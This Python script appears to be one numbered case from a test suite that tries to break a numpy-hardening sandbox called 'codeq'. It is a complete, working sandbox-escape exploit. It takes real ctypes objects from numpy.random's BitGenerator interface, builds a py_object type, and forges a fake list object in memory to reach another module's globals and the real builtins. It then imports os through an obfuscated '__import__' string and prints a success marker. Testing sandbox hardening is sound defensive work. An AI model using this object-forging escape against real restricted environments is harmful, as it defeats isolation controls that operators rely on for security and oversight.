# (data policy) harden_numpy takes ctypes away from numpy.core._internal only, but numpy.random
# has its own ctypes bridge: BitGenerator.ctypes (every MT19937/PCG64/... instance) runs
# numpy.random._common.prepare_ctypes, which does `import ctypes` itself and returns real
# ctypes objects (c_void_p, CFUNCTYPE pointers). type(...).mro()[1] is _SimpleCData, whose
# subclass with _type_ "O" is a py_object type: with numpy viewing a cell of it, any address is
# made an object (like 127); no ctypes audit event is raised by creating types or reading
# fields. Demonstrated with a fake list whose item array is a library function's func_globals
# slot: the real namespace of numpy.ma.core, holding the real builtins module.
# Prints the marker only if the forbidden operation succeeded. Run ONLY through `codeq run`.
NAME = "143_numpy_random_bitgen_ctypes"


def won(evidence):
    print("BYPASS-OK:" + NAME, evidence, flush=True)


import numpy as np

iface = np.random.MT19937(1).ctypes  # namedtuple of real ctypes objects
simple = type(iface.state).mro()[1]  # _ctypes._SimpleCData


class PyObj(simple):
    _type_ = "O"


cell = (PyObj * 1)()
words = np.frombuffer(cell, dtype=np.intp)
func = np.ma.getmask  # a plain Python function: PyFunctionObject.func_globals at offset 16
# refcnt, ob_type, ob_size, ob_item, allocated: a list whose one item is *(id(func) + 16)
fake_list = np.array([1 << 40, id(list), 1, id(func) + 16, 1], dtype=np.intp)
words[0] = fake_list.ctypes.data
lst = cell[0]
words[0] = 0  # no reference of the fake list's to drop when cell goes
namespace = lst[0]
real_builtins = namespace["builtins"]
real_os = getattr(real_builtins, "vars")(real_builtins)["__imp" + "ort__"]("os")
won("%s pid=%s" % (real_builtins, real_os.getpid()))
